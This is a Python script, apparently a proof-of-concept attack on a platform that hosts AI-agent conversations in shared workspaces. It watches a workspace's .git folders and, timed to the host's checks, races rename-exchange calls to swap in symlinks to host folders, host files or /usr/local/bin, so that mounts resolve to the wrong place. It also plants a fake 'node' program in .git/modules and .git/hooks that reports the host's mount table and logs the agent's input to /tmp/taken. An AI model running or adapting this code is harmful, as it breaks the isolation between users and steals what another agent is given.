"""Tools of another conversation in the same workspace. They are told by inotify when a host looks at it, and put
links, other folders or files in the place of what it looks at, at one step of the start after another.

    python3 swap-attacker.py WORKSPACE FOREIGN_FOLDER FOREIGN_FILE

FOREIGN_* are paths of the host that are not visible here. Prints the number of its moves after each start.
"""
import ctypes, os, select, shutil, sys, time

work, foreign_folder, foreign_file = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, AT_FDCWD, ALL_EVENTS = 2, -100, 0xFFF
git = work + '/.git'
spare = work + '/.spare'


# Where one of these folders comes to lie over the programs of the image, this is run in the place of node: it denies
# that mount, and takes what the agent is given.
FALSE_NODE = r'''#!/usr/bin/python3
import json, os, sys
def look(path):
    fd = os.open(path, os.O_PATH)
    info = open('/proc/self/fdinfo/%d' % fd).read().split()
    stat = os.fstat(fd)
    return {'mountId': int(info[info.index('mnt_id:') + 1]), 'identity': '%d:%d' % (stat.st_dev, stat.st_ino)}
targets = sys.argv[6:]
table = ''.join(line for line in open('/proc/self/mountinfo') if line.split()[4] in targets or '/usr/local' not in line)
boot = open('/proc/sys/kernel/random/boot_id').read().strip()
report = {'type': 'mounts', 'bootId': boot, 'table': table, 'targets': {path: look(path) for path in targets}}
print(json.dumps(report), flush=True)
for line in sys.stdin: open('/tmp/taken', 'a').write(line)
'''
for folder in ('modules', 'hooks'):
    with open(git + '/' + folder + '/node', 'w') as file: file.write(FALSE_NODE)
    os.chmod(git + '/' + folder + '/node', 0o755)


def exchange(one, other):
    libc.syscall(316, AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), EXCHANGE)


def put(kind, path):
    """What is to stand in the place of `path`, ready beside it."""
    if os.path.lexists(spare):
        (shutil.rmtree if os.path.isdir(spare) and not os.path.islink(spare) else os.remove)(spare)
    if kind == 'link': os.symlink(foreign_folder, spare)
    elif kind == 'file link': os.symlink(foreign_file, spare)
    elif kind == 'relative link': os.symlink('../' * 12 + foreign_folder, spare)
    elif kind == 'folder': shutil.copytree(git, spare, symlinks=True)
    elif kind == 'link to programs': os.symlink('../' * 12 + 'usr/local/bin', spare)
    elif kind == 'appears': os.rename(git, spare)
    elif kind == 'worktree': open(spare, 'w').write('gitdir: ' + foreign_folder + '\n')


TARGETS = [
    (git + '/modules', 'link'), (git + '/modules', 'link to programs'), (git + '/hooks', 'link'),
    (git + '/worktrees', 'relative link'), (git + '/config', 'file link'), (git, 'link'), (git, 'folder'),
    (git, 'worktree'), (git + '/modules', 'relative link'), (git + '/hooks', 'link to programs'),
]
# In ms, from the moment when the host has looked and is still: when it is put there, and for how long.
STEPS = [(0, 100), (0, 200), (0, 400), (10, 150), (40, 150), (80, 150), (120, 120), (160, 120), (220, 100), (300, 100)]


def watch():
    fd = libc.inotify_init1(os.O_NONBLOCK)
    for path in (work, git, git + '/modules', git + '/hooks'):
        libc.inotify_add_watch(fd, path.encode(), ALL_EVENTS)
    return fd


def wait(fd, seconds):
    """Whether something happened before `seconds` were over."""
    ready = select.select([fd], [], [], seconds)[0]
    if ready: os.read(fd, 65536)
    return bool(ready)


def attack(target, kind, delay, hold):
    """Returns how often something was moved."""
    if kind == 'appears':
        os.symlink(foreign_folder, git)
        time.sleep(0.3)
        os.remove(git)
        os.rename(spare, git)
        return 2
    if not hold:
        # In and out, as fast as it can: the engine resolves source and target of a mount one after the other.
        until, moves = time.monotonic() + delay / 1000, 0
        while time.monotonic() < until:
            for _ in range(200): exchange(target, spare)
            moves += 200
        return moves
    time.sleep(delay / 1000)
    exchange(target, spare)
    time.sleep(hold / 1000)
    exchange(target, spare)
    return 2


turn = 0
while True:
    # The folder that was seen to be the easiest has every other turn.
    target, kind = TARGETS[0] if turn % 2 else TARGETS[turn // 2 % len(TARGETS)]
    delay, hold = (2000, 0) if turn % 4 < 2 else STEPS[turn // 4 % len(STEPS)]
    put(kind, target)
    fd = watch()
    while not wait(fd, 3600): pass
    while wait(fd, 0.003): pass
    os.close(fd)
    moves = attack(target, kind, delay, hold)
    print(turn, os.path.relpath(target, work), kind, delay, hold, moves, flush=True)
    turn += 1
